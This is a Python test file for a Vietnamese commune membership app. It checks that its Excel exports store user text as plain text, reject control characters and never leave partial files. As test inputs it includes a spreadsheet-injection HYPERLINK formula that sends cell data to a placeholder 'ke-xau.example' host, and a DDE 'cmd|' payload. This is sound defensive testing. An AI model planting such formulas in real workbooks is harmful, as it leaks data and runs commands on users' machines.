"""Issue 15, cases 7 and 14 and the zero-row total: every workbook the program writes keeps
user text that looks like a formula as text, survives control characters, and never leaves
half a file. Hypothesis drives every writer with hostile text."""

from __future__ import annotations

import itertools
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from commune_app import xlsx_cells
from commune_app.ops import audit, courses, list_export
from commune_app.ops import reports as report_ops
from commune_app.store.audit import AuditFilter
from tests.factories import make_cell, make_person

pytestmark = pytest.mark.hostile

HOSTILE = '=HYPERLINK("http://ke-xau.example/?"&A1,"Bấm vào đây")'
starts = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "=cmd|' /C calc'!A0", ""])
controls = st.text(alphabet=st.characters(min_codepoint=0, max_codepoint=0x1F), max_size=3)
words = st.text(alphabet=st.characters(categories=("L", "N", "P", "Zs")), max_size=12)
hostile_text = st.builds(lambda a, b, c, d: a + b + c + d, starts, words, controls, words)


def _workbook_cells(path: Path):
    from openpyxl import load_workbook

    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _assert_no_formula(path: Path) -> None:
    formulas = [c.coordinate for c in _workbook_cells(path) if c.data_type == "f"]
    assert formulas == []


_SERIAL = itertools.count(1)


def _plant(session, text: str) -> int:
    """A person of a new cell whose name and residence carry ``text``, as an older import let in."""
    cell = make_cell(session, f"Chi bộ thôn Mới {next(_SERIAL)}")
    person = make_person(session, "Lương Hồng Lan", cell_id=cell, residence="Thôn Nà Lầu")
    with session.write() as log:
        session.store.conn.execute("UPDATE people SET residence = ? WHERE id = ?", [text, person])
        session.store.conn.execute("UPDATE cells SET name = ? WHERE id = ?", [text, cell])
        log.record("update", "person", person, person_id=person, summary=text)
    return person


@given(text=hostile_text)
@settings(max_examples=200, deadline=None)
def test_the_cell_writer_never_stores_a_formula_nor_an_illegal_character(text):
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    book = Workbook()
    cell = xlsx_cells.put(book.active.cell(row=1, column=1), text)
    assert cell.data_type != "f"
    write_only = Workbook(write_only=True)
    assert xlsx_cells.put(WriteOnlyCell(write_only.create_sheet()), text).data_type != "f"
    assert all(ord(ch) >= 0x20 or ch in "\t\n\r" for ch in cell.value)


def test_a_live_formula_in_a_residence_is_text_in_the_list_export(session, tmp_path):
    person = _plant(session, HOSTILE)
    path = list_export.export_people(session, tmp_path / "ds.xlsx", [person], ["full_name", "residence"])
    cells = list(_workbook_cells(path))
    assert any(c.value == HOSTILE and c.data_type == "s" for c in cells)
    _assert_no_formula(path)


@given(text=hostile_text)
@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_list_and_audit_exports_survive_any_text(session, tmp_path, text):
    person = _plant(session, text)
    target = tmp_path / f"ds-{person}.xlsx"
    list_export.export_people(session, target, [person], ["full_name", "residence"])
    _assert_no_formula(target)
    log = tmp_path / f"nk-{person}.xlsx"
    audit.export_xlsx(session, AuditFilter(), log)
    _assert_no_formula(log)
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]  # nothing half-written


@given(text=hostile_text)
@settings(max_examples=6, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_reports_to_the_level_above_survive_any_text(session, tmp_path, text):
    person = _plant(session, text)
    target = tmp_path / f"bc-{person}.xlsx"
    report_ops.export(session, "2026", None, target)
    _assert_no_formula(target)
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]


def test_a_course_roster_keeps_a_formula_as_text(session, tmp_path):
    cell = make_cell(session, "Chi bộ thôn Nà Lầu")
    person = make_person(session, "Lương Hồng Lan", cell_id=cell)
    course = courses.create_course(
        session,
        {
            "kind": "awareness",
            "name": "Lớp bồi dưỡng nhận thức về Đảng",
            "intake": "Khóa I năm 2026",
            "organiser": "Trung tâm Chính trị xã",
            "place": "Hội trường",
            "start_date": "2026-03-09",
        },
    )
    courses.enrol(session, course, [person])
    with session.write():
        session.store.conn.execute("UPDATE cells SET name = ? WHERE id = ?", [HOSTILE + "\x07", cell])
    path = courses.export_course(session, course, tmp_path / "lop.xlsx")
    _assert_no_formula(path)
    assert any(c.value == HOSTILE for c in _workbook_cells(path))


def test_a_list_of_nobody_says_nobody(session, tmp_path):
    cell = make_cell(session)
    person = make_person(session, "Lương Hồng Lan", cell_id=cell)
    for ids in ([], [person + 1000]):
        path = list_export.export_people(session, tmp_path / f"rong-{len(ids)}.xlsx", ids, ["full_name"])
        texts = [c.value for c in _workbook_cells(path) if isinstance(c.value, str)]
        assert any(t.startswith("Tổng số: 0 người") for t in texts), texts


@pytest.mark.parametrize("field", ["residence", "birthplace", "hometown"])
def test_control_characters_are_refused_in_text_fields(session, field):
    from commune_app.errors import Refused
    from commune_app.ops import cells as cell_ops

    with pytest.raises(Refused, match="ký tự điều khiển"):
        make_person(session, "Lương Hồng Lan", **{field: "Thôn\x07 Nà Lầu"})
    with pytest.raises(Refused, match="ký tự điều khiển"):
        cell_ops.save_cell(session, {"name": "Chi bộ\x1b thôn Nà Lầu", "kind": "village"})
